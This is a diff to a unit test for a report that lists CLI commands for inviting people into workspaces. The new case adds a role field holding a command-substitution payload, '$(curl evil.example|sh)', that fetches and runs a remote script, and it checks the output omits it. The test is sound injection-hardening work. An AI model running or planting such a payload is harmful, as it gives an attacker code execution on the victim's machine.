@@ -25,11 +25,20 @@ it('names people with the commands that invite them, as harmless lines', () => {
       role: 'viewer' as const,
       command: "bots invitations create --name 'a\u001b[2J\nb' --role viewer --workspace w1",
     },
+    {
+      person: 'eve@acme.example',
+      workspaceId: 'w1',
+      sourceRole: '$(curl evil.example|sh)',
+      role: 'viewer' as const,
+      command: 'bots invitations create --name eve@acme.example --role viewer --workspace w1',
+    },
     { person: '*', workspaceId: 'w2', reason: 'The source responds with status 403' },
   ];
   const text = moveReportText(moveReport({ bots: [], domains: [], folders: [], people }, OF));
   expect(text).toContain('--role viewer --workspace w1   # guest there, of single bots');
   expect(text).toContain('People in the source could not be listed: The source responds with status 403');
+  expect(text).toContain('--workspace w1   # another role there');
   expect(text).not.toContain('\u001b');
-  expect(text.split('\n').filter((line) => line.includes('bots invitations'))).toHaveLength(1);
+  expect(text).not.toContain('curl');
+  expect(text.split('\n').filter((line) => line.includes('bots invitations'))).toHaveLength(2);
 });
